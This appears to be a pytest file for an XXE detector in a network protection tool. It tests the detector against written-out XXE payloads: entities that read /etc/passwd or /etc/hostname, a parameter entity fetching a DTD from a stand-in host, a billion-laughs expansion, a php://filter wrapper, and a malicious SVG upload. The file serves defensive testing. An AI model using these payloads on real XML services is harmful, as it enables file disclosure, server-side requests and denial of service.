"""xxe: XML in a request that declares an external entity or DTD, or entities that expand; documents
that name a standard DTD by its public id, or declare an internal entity, are no XXE. Every document here
was written for these tests."""

from __future__ import annotations

from urllib.parse import quote_plus

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.verdict import WorkerVerdict
from threats import catalogue as C
from workers.detect.xxe import check_xml

from .test_body_parts import flow
from .test_engine import Lab
from .test_headers import CURL, request

XXE = [
    (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]><r>&f;</r>', "a file read"),
    (b'<!DOCTYPE r [ <!ENTITY x SYSTEM "/etc/hostname"> ]><r>&x;</r>', "a bare path"),
    (b'<!DOCTYPE r [<!ENTITY % d SYSTEM "http://198.18.0.9/x.dtd"> %d;]><r/>', "a parameter entity (OOB)"),
    (b'<!doctype r [<!entity x public "-//x//x" "http://198.18.0.9/a">]><r>&x;</r>', "PUBLIC, lower case"),
    (b'<!DOCTYPE r SYSTEM "http://198.18.0.9/evil.dtd"><r/>', "an external DTD by URL"),
    (b'<!DOCTYPE r SYSTEM "file:///dev/random"><r/>', "a DTD that never ends"),
    (
        b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>',
        "entities of entities (billion laughs)",
    ),
    (
        b'<?xml version="1.0"?>\n<!DOCTYPE foo [\n  <!ELEMENT foo ANY >\n  <!ENTITY xxe SYSTEM '
        b'"php://filter/convert.base64-encode/resource=index.php" >]>\n<foo>&xxe;</foo>',
        "a PHP wrapper, across lines",
    ),
]

BENIGN = [
    b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
    b"<!DOCTYPE html><html><body>hi</body></html>",
    b'<!DOCTYPE html SYSTEM "about:legacy-compat"><html/>',
    b'<!DOCTYPE note [<!ENTITY writer "Donald Duck."><!ENTITY c "&#169;">]><note>&writer; &c;</note>',
    b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>',
    b"<p>Write &amp;a; &amp;b; &amp;c; to escape</p>",
    b"how do I stop <!ENTITY x SYSTEM> attacks? (a question, not a declaration)",
]


@pytest.mark.parametrize(("document", "why"), XXE)
def test_an_external_entity_dtd_or_expansion_is_xxe(document: bytes, why: str) -> None:
    hit = check_xml([b"", document])
    assert hit is not None and hit.threat is C.XXE, why


@pytest.mark.parametrize("document", BENIGN)
def test_standard_doctypes_and_internal_entities_are_no_xxe(document: bytes) -> None:
    assert check_xml([document]) is None


@given(st.binary(max_size=400))
def test_the_check_is_total(text: bytes) -> None:
    hit = check_xml([b"<!DOCTYPE x [" + text, text])
    assert hit is None or (hit.threat is C.XXE and len(hit.excerpt) <= C.MAX_FINDING_EXCERPT)


BOUNDARY = "----formboundaryXxe7MA4"
SVG_XXE = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&h;</text></svg>'
)


def upload(svg: bytes) -> bytes:
    head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="logo"; filename="logo.svg"\r\n'
    return head.encode() + b"Content-Type: image/svg+xml\r\n\r\n" + svg + f"\r\n--{BOUNDARY}--\r\n".encode()


@pytest.mark.parametrize(
    ("headers", "body", "port"),
    [
        ([*CURL, ("Content-Type", "application/xml")], XXE[0][0], 42610),  # an XML API
        ([*CURL, ("Content-Type", "application/x-amf")], XXE[2][0], 42611),  # whatever the type says
        (
            [*CURL, ("Content-Type", "application/x-www-form-urlencoded")],
            b"xml=" + quote_plus(XXE[1][0].decode()).encode() + b"&v=1",
            42612,
        ),  # XML sent as a form parameter
        (
            [*CURL, ("Content-Type", f"multipart/form-data; boundary={BOUNDARY}")],
            upload(SVG_XXE),
            42613,
        ),  # an SVG upload
    ],
)
def test_xxe_in_a_body_is_reset_in_protect(headers: list[tuple[str, str]], body: bytes, port: int) -> None:
    lab = Lab()
    verdicts = lab.send(flow(request("POST", headers, body), port))
    assert verdicts[-1] is WorkerVerdict.RESET_FLOW
    [event] = lab.threats("xxe")
    assert event["action"] == "reset" and event["group"] == "web"


def test_an_svg_upload_and_a_soap_call_stay_quiet() -> None:
    lab = Lab()
    svg = BENIGN[0]
    multipart = ("Content-Type", f"multipart/form-data; boundary={BOUNDARY}")
    verdicts = lab.send(flow(request("POST", [*CURL, multipart], upload(svg)), 42620))
    verdicts += lab.send(flow(request("POST", [*CURL, ("Content-Type", "text/xml")], BENIGN[4]), 42621))
    assert WorkerVerdict.RESET_FLOW not in verdicts and lab.threats() == []
